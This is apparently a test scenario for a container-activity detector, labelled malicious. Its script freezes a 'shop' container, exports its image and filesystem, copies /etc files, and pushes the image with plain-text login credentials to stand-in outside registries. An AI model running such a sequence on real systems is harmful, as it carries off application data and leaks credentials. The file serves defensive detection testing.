# images-carried-off: an application's container is frozen, its image and data are written to archives, and a registry outside is tried (it does not answer here).
# shows: commit, save, export, cp and push by docker's client; archives written
# as: ci
# label: malicious
# expects: [container-committed, image-exported, files-copied-with-engine, image-pushed-to-unknown-registry, registry-password-on-command-line]
# allows: [engine-socket-connected]
prepare() { docker run -d --name shop -v /srv/lab:/x:ro shop/web:2.3 sleep 120; }
act() {
    cd /home/ci || return
    if dev; then
        docker commit shop shop/web:debug
        docker save -o web.tar shop/web:debug
        docker export shop >files.tar
        docker cp shop:/etc/group group.txt
        docker tag shop/web:debug 198.51.100.7:5000/a/web:1
        docker login -u a -p hunter2 198.51.100.7:5000
        timeout 5 docker push 198.51.100.7:5000/a/web:1
        docker rmi shop/web:debug 198.51.100.7:5000/a/web:1
    else
        docker container commit --pause=false -m x shop backup/web
        docker image save backup/web | gzip -c >b.tgz
        docker container export --output=fs.tar shop
        docker container cp -a shop:/etc ./etc
        docker tag backup/web files.example.net:8443/backup/web
        docker login --username=b --password=s3cret files.example.net:8443
        timeout 5 docker image push files.example.net:8443/backup/web
        docker image rm backup/web files.example.net:8443/backup/web
    fi
    rm -rf web.tar files.tar b.tgz fs.tar etc group.txt
    true
}
restore() { docker rm -f shop; }
